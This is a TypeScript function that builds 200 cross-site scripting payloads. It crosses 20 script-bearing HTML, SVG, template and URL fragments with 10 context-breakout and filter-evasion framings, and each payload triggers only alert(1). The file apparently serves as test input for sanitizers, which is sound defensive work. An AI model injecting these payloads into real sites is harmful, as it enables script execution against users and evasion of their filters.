/** Texts that would run as script wherever they are taken for markup: 200 of them, made from openings, triggers and disguises. */
export function xssPayloads(): readonly string[] {
  const call = "alert(1)";
  const elements = [
    `<script>${call}</script>`,
    `<img src=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<body onload=${call}>`,
    `<details open ontoggle=${call}>`,
    `<video><source onerror=${call}></video>`,
    `<input autofocus onfocus=${call}>`,
    `<a href="javascript:${call}" autofocus onfocus=${call}>x</a>`,
    `<math><mtext></mtext><mglyph><style><img src=x onerror=${call}></style></mglyph></math>`,
    `<style>@import 'javascript:${call}';</style>`,
    `<object data="javascript:${call}"></object>`,
    `<form><button formaction="javascript:${call}">x</button></form>`,
    `<marquee onstart=${call}>`,
    `<template><script>${call}</script></template>`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
    `javascript:${call}`,
    `data:text/html,<script>${call}</script>`,
  ];
  const frames: readonly ((element: string) => string)[] = [
    (element) => element,
    (element) => `"'>${element}`,
    (element) => `</textarea>${element}`,
    (element) => `</title></style></script>${element}`,
    (element) => `--></noscript>]]>${element}`,
    (element) => `\u2028${element}\u2029`,
    (element) => element.replaceAll("<", "\u02c2").concat(element),
    (element) => element.toUpperCase().replaceAll("ALERT(1)", call),
    (element) => `&lt;${element}&#x3C;`,
    (element) => `${element.replace(" on", "/on")}<!--`,
  ];
  return elements.flatMap((element) => frames.map((frame) => frame(element)));
}
